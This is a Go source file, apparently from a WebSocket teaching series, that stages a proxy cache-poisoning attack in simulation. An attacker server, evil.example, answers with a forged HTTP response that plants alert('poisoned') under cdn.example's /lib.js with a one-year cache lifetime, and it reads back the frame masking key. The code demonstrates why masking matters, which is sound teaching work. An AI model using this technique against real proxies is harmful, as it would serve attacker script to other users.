package poison

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"

	"example/websocket/03-http-upgrade/handshake"
	"example/websocket/04-frames/frame"
	"example/websocket/05-masking/mask"
)

const (
	// Lure is what the page wants on the wire: to a proxy that knows no
	// WebSocket, the next request of this connection, for somebody else's site.
	Lure = "GET /lib.js HTTP/1.1\r\nHost: cdn.example\r\n\r\n"

	// Question is the message that evil answers with the key it came under.
	Question = "which key was this masked with?"

	Genuine = "console.log('genuine library')" // cdn's script
	Poison  = "alert('poisoned')"              // evil's
)

// forged is the payload of evil's answer: to the proxy, the response to Lure.
var forged = "HTTP/1.1 200 OK\r\n" +
	"Content-Type: text/javascript\r\n" +
	"Cache-Control: max-age=31536000\r\n" +
	fmt.Sprintf("Content-Length: %d\r\n\r\n%s", len(Poison), Poison)

// mostAsked bounds the bytes of requests that cdn reads from one connection.
const mostAsked = 1 << 20

// cdn is the genuine site, cdn.example.
func (s *Stage) cdn(_ context.Context, _ net.Conn, rw io.ReadWriter) {
	in := bufio.NewReader(io.LimitReader(rw, mostAsked))
	for {
		r, err := http.ReadRequest(in)
		if err != nil {
			return
		}
		status, body := 200, Genuine
		if r.Method != "GET" || r.URL.Path != "/lib.js" {
			status, body = 404, "only GET /lib.js is served\n"
		}
		s.fetched.Add(1)
		s.say("cdn", "%d for %.20s %.30s", status, r.Method, r.URL.Path)
		_, err = fmt.Fprintf(rw, "HTTP/1.1 %d %s\r\nContent-Type: text/javascript\r\n"+
			"Cache-Control: max-age=60\r\nContent-Length: %d\r\n\r\n%s",
			status, http.StatusText(status), len(body), body)
		if err != nil {
			return
		}
	}
}

// evil is the attacker's WebSocket server, evil.example. It is a correct one,
// but for one thing: it does not insist on masks.
func (s *Stage) evil(_ context.Context, conn net.Conn, rw io.ReadWriter) {
	agreed, err := handshake.Accept(conn, handshake.Rules{Limits: s.limits()})
	if err != nil {
		return
	}
	in := bufio.NewReader(agreed.Reader(rw))
	for {
		h, payload, err := frame.Read(in, frame.Rules{Limit: mostMessage})
		if err != nil || h.Opcode == frame.Close {
			return
		}
		mask.XOR(payload, h.Key, 0)
		answer := forged
		if string(payload) == Question {
			answer = fmt.Sprintf("%x", h.Key)
			s.say("evil", "reads the key % x in the frame, and tells the page", h.Key)
		}
		reply := frame.Append(nil, frame.Text, []byte(answer))
		s.say("evil", "answers with one unmasked frame: % x %.15q …", reply[:2], reply[2:])
		if _, err := rw.Write(reply); err != nil {
			return
		}
	}
}
